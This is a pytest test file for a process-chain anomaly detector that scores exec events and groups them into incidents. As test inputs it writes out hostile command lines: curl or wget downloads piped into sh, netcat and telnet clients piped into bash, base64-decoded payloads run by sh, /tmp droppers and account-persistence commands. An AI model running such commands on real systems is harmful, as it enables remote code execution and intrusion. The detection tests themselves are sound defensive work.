"""Chains of processes: evidence across execs, incidents, and the bounds of the state behind them."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.event import ProcessEvent
from scoring import chains
from scoring.chains import ChainTracker
from scoring.commands import Command
from scoring.config import EngineConfig
from scoring.engine import AnomalyEngine
from scoring.sequences import resolve, script_file

HOST = "web-1"


class Session:
    """Builds exec events of one host as a shell would start them: pids, parents, times, stdio."""

    def __init__(self, start: float = 1_000_000.0) -> None:
        self.now = start
        self.pid = 20_000

    def exec(self, line: str, parent: int, parent_name: str, *, uid: int = 1000, cwd: str = "/home/u",
             gap: float = 1.0, path: str = "", real_uid: int | None = None, stdin: str = "", stdout: str = "",
             pid: int | None = None) -> ProcessEvent:
        self.now += gap
        self.pid += 1
        args = tuple(line.split())
        name = (path or args[0]).rsplit("/", 1)[-1]
        return ProcessEvent(executable_name=name, executable_path=path or f"/usr/bin/{args[0]}",
                            command_line=line, command_args=args, parent_name=parent_name, parent_pid=parent,
                            pid=pid or self.pid, user_id=uid, real_user_id=real_uid, working_directory=cwd,
                            host=HOST, timestamp=self.now, stdin=stdin, stdout=stdout)


ROUTINE = ["ls -la", "git status", "vim notes.txt", "df -h", "ps aux", "grep error /var/log/app.log", "make build",
           "python3 manage.py check", "tail -n 20 /var/log/app.log", "du -sh /srv", "cat README.md",
           "ssh deploy@10.0.0.5"]


@pytest.fixture
def engine(tmp_path):
    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path / "baselines")))
    session = Session(start=900_000.0)
    engine.learn_only([session.exec(line, 100, "bash", gap=30.0) for line in ROUTINE * 8], workload="dev")
    yield engine
    engine.close()


def _score(engine: AnomalyEngine, events: list[ProcessEvent]):  # type: ignore[no-untyped-def]
    return engine.process(events, workload="dev")


def test_curl_piped_into_sh_captured_as_two_processes_alerts_as_one_incident(engine):
    session = Session()
    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash")
    sh = session.exec("sh", 100, "bash", gap=0.001)
    verdicts = _score(engine, [curl, sh])
    assert verdicts[1].severity == "alert", verdicts[1]
    assert any("download piped into sh" in r for r in verdicts[1].reasons), verdicts[1].reasons
    assert "T1105" in verdicts[1].techniques
    assert verdicts[0].incident and verdicts[0].incident == verdicts[1].incident
    assert verdicts[0].incident_score == verdicts[1].incident_score >= verdicts[1].score


def test_a_download_that_names_no_file_is_read_as_feeding_the_shell_it_started_with(engine):
    """`wget URL | sh`: the file wget saves is named after the URL, but the command names none, so the pipe
    is read as the attempt it is, as `wget -qO- URL | sh` would be."""
    session = Session()
    wget = session.exec("wget -q http://203.0.113.9/x.sh", 100, "bash")
    sh = session.exec("sh", 100, "bash", gap=0.001)
    verdict = _score(engine, [wget, sh])[1]
    assert any("download piped into sh" in r for r in verdict.reasons), verdict.reasons


def test_pipe_identities_link_a_pipe_whatever_the_timing(engine):
    session = Session()
    wget = session.exec("wget -qO- http://203.0.113.9/x", 100, "bash", stdout="pipe:4242", stdin="tty")
    bash = session.exec("bash", 100, "bash", gap=0.9, stdin="pipe:4242", stdout="tty")
    verdict = _score(engine, [wget, bash])[1]
    assert verdict.severity == "alert"
    assert any("download piped into bash" in r for r in verdict.reasons)


def test_a_pipe_end_gone_before_its_stdio_was_read_is_linked_by_timing(engine):
    """curl exited before the agent read its stdio; sh's stdin is a pipe nobody else names."""
    session = Session()
    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash")
    sh = session.exec("sh", 100, "bash", gap=0.002, stdin="pipe:991", stdout="tty")
    verdict = _score(engine, [curl, sh])[1]
    assert verdict.severity == "alert"
    assert any("download piped into sh" in r for r in verdict.reasons), verdict.reasons


def test_stdio_that_rules_a_pipe_out_is_believed(engine):
    """Both started together, but sh reads the terminal and curl writes another pipe: no pipe between them."""
    session = Session()
    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash", stdout="pipe:5")
    sh = session.exec("sh", 100, "bash", gap=0.002, stdin="tty", stdout="tty")
    verdict = _score(engine, [curl, sh])[1]
    assert not any("piped" in r for r in verdict.reasons), verdict.reasons


def test_process_substitution_links_the_download_to_the_shell_reading_it(engine):
    """`bash <(curl URL)`: bash reads the download from /dev/fd/63, its stdin stays the terminal."""
    session = Session()
    curl = session.exec("curl -fsSL http://203.0.113.9/i.sh", 100, "bash", stdout="pipe:77", stdin="tty")
    bash = session.exec("bash /dev/fd/63", 100, "bash", gap=0.002, stdin="tty", stdout="tty")
    verdict = _score(engine, [curl, bash])[1]
    assert verdict.severity == "alert", verdict
    assert any("download piped into bash" in r for r in verdict.reasons), verdict.reasons


def test_sequential_commands_are_not_a_pipe(engine):
    session = Session()
    curl = session.exec("curl -s https://example.org/health", 100, "bash")
    sh = session.exec("sh", 100, "bash", gap=5.0)
    verdict = _score(engine, [curl, sh])[1]
    assert not any("piped" in r for r in verdict.reasons)
    assert verdict.severity != "alert"


def test_drop_chmod_run_in_tmp_alerts_with_the_download_named(engine):
    session = Session()
    events = [session.exec("curl -s -o /tmp/.x http://203.0.113.9/x", 100, "bash"),
              session.exec("chmod +x /tmp/.x", 100, "bash"),
              session.exec("/tmp/.x", 100, "bash", path="/tmp/.x")]
    verdicts = _score(engine, events)
    assert verdicts[2].severity == "alert"
    assert any("downloaded by curl" in r for r in verdicts[2].reasons), verdicts[2].reasons
    assert any("made executable" in r and "downloaded by curl" in r for r in verdicts[1].reasons)
    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident


@pytest.mark.parametrize(("mode", "executable"), [("600", False), ("0644", False), ("u=rw", False), ("a-x", False),
                                                  ("755", True), ("0700", True), ("u+x", True), ("go-w,u+x", True)])
def test_only_a_mode_granting_an_execute_bit_makes_a_file_executable(engine, mode: str, executable: bool):
    """`chmod 600` of a key or `chmod 644` of a cron file just written is routine, not a payload made runnable."""
    session = Session()
    events = [session.exec("tee -a /home/u/.ssh/authorized_keys", 100, "bash"),
              session.exec(f"chmod {mode} /home/u/.ssh/authorized_keys", 100, "bash")]
    reasons = _score(engine, events)[1].reasons
    assert any(r.startswith("made executable") for r in reasons) == executable, reasons


def test_a_hidden_file_run_by_a_relative_name_without_a_working_directory_keeps_its_name(engine):
    """Sources that report no cwd: `./.x` is the `.x` downloaded to /tmp (the only file of that name), and
    the dot stays (a hidden name is where droppers hide, and the reasons name the file as written)."""
    session = Session()
    events = [session.exec("curl -s -o /tmp/.cache-upd http://203.0.113.9/x", 100, "bash", cwd=""),
              session.exec("./.cache-upd", 100, "bash", cwd="", path=""),
              session.exec("rm ./.cache-upd", 100, "bash", cwd="")]
    verdicts = _score(engine, events)
    assert any(r.startswith("runs /tmp/.cache-upd, downloaded by curl") for r in verdicts[1].reasons), verdicts[1]
    assert any(r.startswith("deletes /tmp/.cache-upd after it ran") for r in verdicts[2].reasons), verdicts[2]
    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident


def test_a_file_a_download_names_after_its_url_is_followed_to_its_run(engine):
    """`wget URL` and `curl -O URL` save the URL's last segment: making that executable and running it is the
    download's chain."""
    session = Session()
    events = [session.exec("wget -q http://45.9.148.3/kworker", 100, "bash"),
              session.exec("chmod +x kworker", 100, "bash"),
              session.exec("./kworker", 100, "bash", path="/home/u/kworker")]
    verdicts = _score(engine, events)
    assert any(r.startswith("made executable /home/u/kworker, downloaded by wget") for r in verdicts[1].reasons), \
        verdicts[1]
    assert any(r.startswith("runs /home/u/kworker, downloaded by wget, then made executable") for r in
               verdicts[2].reasons), verdicts[2]
    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident


def test_how_a_file_arrived_decides_how_much_running_it_counts(engine):
    """Outside temp and hidden places, a file fetched from a bare public address is as suspect as one in /tmp;
    a release fetched by name, made executable and run in a home directory is an install, not an alert."""
    def install(url: str) -> list:  # type: ignore[type-arg]
        session = Session()
        return _score(engine, [session.exec(f"curl -sLO {url}", 100, "bash"),
                               session.exec("chmod +x tool", 100, "bash"),
                               session.exec("./tool --version", 100, "bash", path="/home/u/tool")])

    dropped = install("http://45.9.148.3/tool")
    assert [v.severity for v in dropped] == ["alert"] * 3, dropped
    assert any(r.startswith("runs /home/u/tool, downloaded by curl") for r in dropped[2].reasons)
    released = install("https://releases.example.org/v1.2/tool")
    assert [v.severity for v in released] != ["alert"] * 3 and released[1].severity != "alert", released
    assert any(r.startswith("runs /home/u/tool, downloaded by curl") for r in released[2].reasons)


def test_a_download_that_looks_routine_joins_the_incident_its_file_starts(engine):
    """The download alone is ordinary (scored below warn); making it executable starts the incident, and the
    download of the same batch is part of it."""
    session = Session()
    engine.learn_only([session.exec("curl -s -o /tmp/report.csv https://reports.example/daily", 100, "bash",
                                    gap=60.0) for _ in range(8)], workload="dev")
    events = [session.exec("curl -s -o /tmp/update http://203.0.113.9/u", 100, "bash"),
              session.exec("chmod +x /tmp/update", 100, "bash"),
              session.exec("/tmp/update", 100, "bash", path="/tmp/update")]
    verdicts = _score(engine, events)
    assert verdicts[0].severity == "none" and verdicts[1].severity == "alert", verdicts
    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident


@pytest.mark.parametrize("client", ["telnet 198.51.100.7 4444", "nc 198.51.100.7 4444",
                                    "openssl s_client -quiet -connect 198.51.100.7:4443"])
def test_a_network_client_piped_into_a_shell_is_a_remote_shell(engine, client):
    """`telnet HOST PORT | bash` runs what the peer sends, as `curl URL | sh` runs what it downloads."""
    session = Session()
    events = [session.exec(client, 100, "bash", stdout="pipe:77"),
              session.exec("bash", 100, "bash", gap=0.001, stdin="pipe:77")]
    verdicts = _score(engine, events)
    assert any(r.startswith("what a network peer sends is run by bash") for r in verdicts[1].reasons), verdicts[1]
    assert verdicts[1].severity == "alert" and verdicts[0].incident == verdicts[1].incident != ""


def test_a_connection_of_a_pipe_end_keeps_its_exec_in_the_pipe(engine):
    """The agent also reports curl's connection (same pid, no argv, no stdio): curl's exec record still
    joins the incident of the sh it feeds."""
    session = Session()
    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash", stdout="pipe:77")
    sh = session.exec("sh", 100, "bash", gap=0.001, stdin="pipe:77")
    connection = ProcessEvent(executable_name="curl", command_line="curl", event_name="network.connection",
                              pid=curl.pid, parent_pid=100, host=HOST, timestamp=curl.timestamp + 0.002,
                              transport="tcp", remote_address="203.0.113.9", remote_port=80)
    verdicts = _score(engine, [curl, connection, sh])
    assert verdicts[2].severity == "alert" and verdicts[2].incident
    assert verdicts[0].incident == verdicts[2].incident


def test_setuid_gain_is_evidence_but_sudo_is_what_sudo_does(engine):
    session = Session()
    copy = session.exec("/tmp/.b -p -c id", 100, "bash", path="/tmp/.b", uid=0, real_uid=1002)
    sudo = session.exec("sudo systemctl restart app", 100, "bash", uid=0, real_uid=1000)
    gained, helper = _score(engine, [copy, sudo])
    assert any("setuid bit (real uid 1002)" in r for r in gained.reasons)
    assert "T1548.001" in gained.techniques and gained.severity == "alert"
    assert not any("setuid bit (real uid" in r for r in helper.reasons)


def test_reconnaissance_below_a_web_server_alerts_where_an_admin_session_does_not(engine):
    session = Session()
    nginx = session.exec("nginx -g daemon off;", 1, "systemd", uid=0, path="/usr/sbin/nginx")
    shell = session.exec("sh -c id", nginx.pid, "nginx", uid=33)
    recon = session.exec("id", shell.pid, "sh", uid=33, gap=0.01)
    verdicts = _score(engine, [nginx, shell, recon])
    assert verdicts[2].severity == "alert", verdicts[2]
    assert any("below nginx" in r for r in verdicts[2].reasons)
    admin = _score(engine, [session.exec("id", 100, "bash")])[0]
    assert admin.severity != "alert"


RECON = ["id", "uname -a", "ss -antp", "ps auxf", "cat /etc/passwd", "ip route"]


def test_looking_around_in_many_new_ways_at_once_is_reconnaissance(engine):
    session = Session()
    verdicts = _score(engine, [session.exec(line, 400, "bash", gap=2.0) for line in RECON])
    assert [v.severity for v in verdicts[:3]] != ["alert"] * 3, verdicts  # a few looks are an admin's routine
    assert verdicts[-1].severity == "alert", verdicts[-1]
    assert any("looks around in" in r for r in verdicts[-1].reasons), verdicts[-1].reasons


def test_the_same_looks_spread_out_or_known_to_the_workload_are_not(engine):
    session = Session()
    spread = _score(engine, [session.exec(line, 500, "bash", gap=300.0) for line in RECON])
    assert not any("looks around in" in r for v in spread for r in v.reasons), spread
    known = _score(engine, [session.exec(line, 600, "bash", gap=2.0) for line in ROUTINE[:6]])
    assert all(v.severity == "none" for v in known), known
    # An admin investigating an intrusion looks at the same things, but needs not ask who they are on which host.
    investigation = ["last -n 20", "lastlog", "ps auxf", "ss -tnp", "find / -xdev -perm -4000 -type f",
                     "cat /etc/passwd", "crontab -l -u www-data"]
    checked = _score(engine, [session.exec(line, 700, "bash", uid=0, gap=2.0) for line in investigation])
    assert not any("looks around in" in r for v in checked for r in v.reasons), checked


def test_a_burst_of_account_and_persistence_changes_adds_up_in_one_incident(engine):
    session = Session()
    lines = ["useradd -m svc2", "usermod -aG sudo svc2", "crontab -u svc2 /tmp/.ct"]
    verdicts = _score(engine, [session.exec(line, 300, "bash", uid=0) for line in lines])
    assert all(v.severity == "alert" for v in verdicts), verdicts
    assert any("follows 2 other sensitive commands" in r for r in verdicts[2].reasons), verdicts[2].reasons
    assert len({v.incident for v in verdicts}) == 1
    assert {"T1136.001", "T1098", "T1053.003"} <= set(verdicts[2].techniques) | set(verdicts[1].techniques) | set(
        verdicts[0].techniques)


def test_a_copy_of_a_staged_file_carries_its_history_to_where_a_service_runs_it(engine):
    """`cp /tmp/.t /usr/local/lib/netlogd`, then systemd runs it: the copy is as suspect as what it copied."""
    session = Session()
    fetched = [session.exec("curl -s -o /tmp/.t http://10.0.0.8/t", 300, "bash", uid=0),
               session.exec("cp /tmp/.t /usr/local/lib/netlogd", 300, "bash", uid=0)]
    run = session.exec("/usr/local/lib/netlogd", 1, "systemd", uid=0, path="/usr/local/lib/netlogd", gap=60)
    verdict = _score(engine, [*fetched, run])[-1]
    assert verdict.severity == "alert", verdict
    assert any("downloaded by curl, then written by cp" in r for r in verdict.reasons), verdict.reasons
    staged = [session.exec("cp /tmp/.u /usr/local/lib/other", 400, "bash", uid=0),
              session.exec("/usr/local/lib/other", 1, "systemd", uid=0, path="/usr/local/lib/other", gap=60)]
    assert any("written by cp from /tmp/.u" in r for r in _score(engine, staged)[-1].reasons)
    deployed = [session.exec("cp /srv/release/app /usr/local/bin/app", 500, "bash", uid=0),
                session.exec("/usr/local/bin/app", 1, "systemd", uid=0, path="/usr/local/bin/app", gap=60)]
    assert _score(engine, deployed)[-1].severity != "alert"  # a deploy: copied from no staging place


def test_a_script_that_copies_chmods_and_runs_a_temp_binary_alerts_on_its_own(engine):
    session = Session()
    line = "sh -c cp /bin/sleep /tmp/.kworker; chmod 755 /tmp/.kworker; /tmp/.kworker 1; rm -f /tmp/.kworker"
    event = session.exec(line, 400, "make")
    event.command_args = ("sh", "-c", line.split(" ", 2)[2])
    verdict = _score(engine, [event])[0]
    assert verdict.severity == "alert"
    assert any("earlier in the same script" in r for r in verdict.reasons), verdict.reasons


def test_a_cd_inside_a_script_moves_where_its_files_are(engine):
    """`cd /tmp && gcc ... -o x && ./x` compiles and runs /tmp/x: a temp place, counted in full (a build
    directory's binary run after `make` counts a third, below the technique's mark)."""
    session = Session()
    event = session.exec("sh -c x", 100, "bash")
    event.command_args = ("sh", "-c", "cd /tmp && gcc -pthread dirty.c -o dirty -lcrypt && ./dirty newpass")
    verdict = _score(engine, [event])[0]
    assert any(r.startswith("runs /tmp/dirty, compiled by gcc earlier in the same script") for r in verdict.reasons), \
        verdict.reasons
    assert "T1027.004" in verdict.techniques


def test_a_downloaded_script_run_by_an_interpreter_is_the_download_run(engine):
    """`sh x.sh` and `python3 /tmp/a.py` run the file as much as `./x` does: the chain follows the script."""
    session = Session()
    events = [session.exec("wget -q -O /tmp/.u.sh http://203.0.113.9/u", 100, "bash"),
              session.exec("bash -x /tmp/.u.sh", 100, "bash"),
              session.exec("curl -s -o helper.py http://203.0.113.9/h", 100, "bash"),
              session.exec("python3 -u helper.py --quiet", 100, "bash")]
    verdicts = _score(engine, events)
    assert any(r.startswith("runs /tmp/.u.sh, downloaded by wget") for r in verdicts[1].reasons), verdicts[1]
    assert verdicts[1].severity == "alert" and verdicts[1].incident == verdicts[0].incident != ""
    assert any(r.startswith("runs /home/u/helper.py, downloaded by curl") for r in verdicts[3].reasons), verdicts[3]


def test_a_script_that_decodes_a_file_and_runs_it_with_sh_alerts_on_its_own(engine):
    session = Session()
    event = session.exec("sh -c x", 400, "php-fpm")
    event.command_args = ("sh", "-c", "echo ZWNobyBoaQo= | base64 -d > /tmp/.a; sh /tmp/.a")
    verdict = _score(engine, [event])[0]
    assert verdict.severity == "alert"
    assert any(r.startswith("runs /tmp/.a, decoded by base64 earlier in the same script") for r in verdict.reasons), \
        verdict.reasons


def test_a_file_tee_wrote_and_an_interpreter_ran_from_shared_memory_is_evidence(engine):
    """tee writes its operands without any redirection: what it wrote is a prepared file like `cat > f`'s."""
    session = Session()
    events = [session.exec("base64 -d blob.txt", 100, "bash"),
              session.exec("tee /dev/shm/a.py", 100, "bash", gap=0.001),
              session.exec("python3 /dev/shm/a.py", 100, "bash")]
    verdicts = _score(engine, events)
    assert any(r.startswith("runs /dev/shm/a.py, written by tee") for r in verdicts[2].reasons), verdicts[2]


@pytest.mark.parametrize("text", ["printf '\\x69\\x64' | sh", "echo -e '\\151\\144' | bash"])
def test_escaped_bytes_printed_into_a_shell_are_decoded_data_run(engine, text):
    session = Session()
    event = session.exec("sh -c x", 400, "php-fpm")
    event.command_args = ("sh", "-c", text)
    reasons = _score(engine, [event])[0].reasons
    assert any(r.startswith("decoded data run by") and r.endswith("[T1140]") for r in reasons), reasons


@pytest.mark.parametrize(("line", "script"), [
    ("sh /tmp/.a", "/tmp/.a"), ("bash -x -o pipefail run.sh arg", "run.sh"), ("sh -e -- /tmp/y", "/tmp/y"),
    ("python3 -u -W ignore /tmp/a.py x", "/tmp/a.py"), ("php -f x.php", "x.php"), ("perl -I lib x.pl", "x.pl"),
    ("node --require m app.js", "app.js"), ("source ./env.sh", "./env.sh"), (". /tmp/x", "/tmp/x"),
    ("bash -lc ./x", ""), ("python3 -c import os", ""), ("python3 -m http.server", ""), ("php -r echo", ""),
    ("ruby -rsocket -e x", ""), ("bash -s", ""), ("sh -", ""), ("bash", ""), ("busybox wget x", ""), ("ls /tmp/x", ""),
])
def test_the_script_a_shell_or_interpreter_runs(line, script):
    assert script_file(Command(tuple(line.split()))) == script


def test_descendants_of_an_alert_join_its_incident(engine):
    session = Session()
    reverse = session.exec("bash -i", 100, "bash", stdin="socket:9911", stdout="socket:9911")
    child = session.exec("uname -a", reverse.pid, "bash", gap=0.5)
    verdicts = _score(engine, [reverse, child])
    assert verdicts[0].severity == "alert" and "reverse shell" in " ".join(verdicts[0].reasons)
    assert verdicts[1].incident == verdicts[0].incident


def test_ancestors_come_from_the_process_table_per_host():
    tracker = ChainTracker()
    session = Session()
    shell = session.exec("sh -c curl http://x | bash", 100, "nginx", pid=200)
    curl = session.exec("curl http://x", 200, "sh", pid=201)
    bash = session.exec("bash", 200, "sh", pid=202)
    child = session.exec("id", 202, "bash", pid=203)
    for event in (shell, curl, bash, child):
        tracker.register("t", event)
    assert [e.ancestors for e in (shell, curl, bash, child)] == [
        ("nginx",), ("sh", "nginx"), ("sh", "nginx"), ("bash", "sh", "nginx")]
    elsewhere = session.exec("id", 202, "bash", pid=203)
    elsewhere.host = "web-2"
    tracker.register("t", elsewhere)
    assert elsewhere.ancestors == ("bash",)  # another host's pids are its own
    given = session.exec("id", 202, "bash", pid=204)
    given.ancestors = ("bash", "sshd")
    tracker.register("t", given)
    assert given.ancestors == ("bash", "sshd")  # a source's own ancestry (Falco) is kept


def test_a_cycle_of_parent_pids_stops_the_walk():
    tracker = ChainTracker()
    session = Session()
    tracker.register("t", session.exec("a", 6, "b", pid=5))
    looped = session.exec("b", 5, "a", pid=6)
    tracker.register("t", looped)
    assert looped.ancestors == ("a",)


def test_the_process_table_is_bounded():
    tracker = ChainTracker(max_processes=1000, max_hosts=3)
    session = Session()
    for i in range(5000):
        tracker.register("t", session.exec("true", 1, "init", pid=10_000 + i))
    for host in ("a", "b", "c", "d"):
        event = session.exec("true", 1, "init")
        event.host = host
        tracker.register("t", event)
    assert tracker.host_count() == 3
    assert all(len(h.nodes) <= 1000 for hosts in tracker._tenants.values() for h in hosts.values())


def test_another_tenants_flood_of_hosts_does_not_evict_a_tenants_process_table():
    """The table's hosts were one LRU for all tenants: one tenant's execs from 4,200 new host names evicted another
    tenant's host, whose web shell's chain then split in three. Past the bound, the tenant with the most gives way."""
    tracker = ChainTracker(max_hosts=10)
    session = Session()
    server = session.exec("php-fpm: pool www", 1, "systemd", uid=33)
    shell = session.exec("sh -c id", server.pid, "php-fpm", uid=33)
    for event in (server, shell):
        tracker.register("victim", event)
    for host in range(20):
        flood = session.exec("true", 1, "init")
        flood.host = f"flood-{host}"
        tracker.register("flooder", flood)
    command = session.exec("id", shell.pid, "sh", uid=33)
    command.ancestors = ()
    tracker.register("victim", command)
    assert command.ancestors[:2] == ("sh", "php-fpm") and tracker.host_count() == 10


_NAMES = st.sampled_from(["x", ".x", "bot", "run.sh", "", "dir/", "'x'"])
_DIRS = st.sampled_from(["", "/tmp/", "/tmp/a/", "./", "a/", "/home/u/"])


@settings(max_examples=300, deadline=None)
@given(added=st.lists(st.tuples(_DIRS, _NAMES), max_size=40), asked=st.tuples(_DIRS, _NAMES),
       cwd=st.sampled_from(["", "/tmp", "/home/u/"]))
def test_finding_a_prepared_file_by_name_first_is_the_full_lookup(added, asked, cwd):
    """`_Files.find` skips the lookup when no kept file has the name; evictions must never make it skip one."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(chains, "MAX_FILES", 5)  # evictions in most examples
        files = chains._Files()
        for when, (directory, name) in enumerate(added):
            files.add(chains.Written(resolve(directory + name, cwd), float(when), "downloaded by curl", 0.5, "T1105",
                                     None))
    path = asked[0] + asked[1]
    assert files.find(path, cwd, 50.0) is files.lookup(resolve(path, cwd), 50.0)
